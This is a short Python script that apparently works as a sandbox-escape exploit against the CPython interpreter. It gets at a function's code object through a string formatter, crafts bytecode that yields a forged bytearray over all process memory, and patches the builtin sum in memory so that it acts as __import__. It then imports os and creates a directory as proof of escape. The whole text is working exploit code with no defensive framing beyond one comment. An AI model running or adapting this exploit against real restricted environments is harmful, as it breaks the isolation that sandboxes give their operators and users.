# Loads a made-up object with changed code, which opens all memory, and turns sum into the import function.
import string


def number(value):
    return value.to_bytes(8, "little")


def place(thing):
    return id(thing)


def read(address):
    return int.from_bytes(memory[address:address + 8], "little")


def sample():
    pass


code, _ = string.Formatter().get_field("0.__code__", (sample,), {})
old = code.co_code[0] == 151
resume, load, leave, more = (151, 100, 83, 144) if old else (149, 83, 36, 71)
false = number(1 << 30) + number(place(bytearray)) + number((1 << 63) - 1) + number((1 << 63) - 1) + number(0) * 3
pointer = number(place(false) + 32)
constants = (object(), object())
index = (place(pointer) + 32 - place(constants) - 24) // 8 & 0xFFFFFFFF
parts = index.to_bytes(4, "big")
steps = bytes([resume, 0, more, parts[0], more, parts[1], more, parts[2], load, parts[3], leave, 0])
maker = type(sample)
memory = maker(code.replace(co_code=steps, co_consts=constants), {})()
table = read(place(sum) + 16)
step = table
while memory[read(step):read(step) + 11] != b"__import__\0":
    step -= 32
memory[table + 8:table + 16] = memory[step + 8:step + 16]
sum("os").mkdir(FOLDER + "/made")
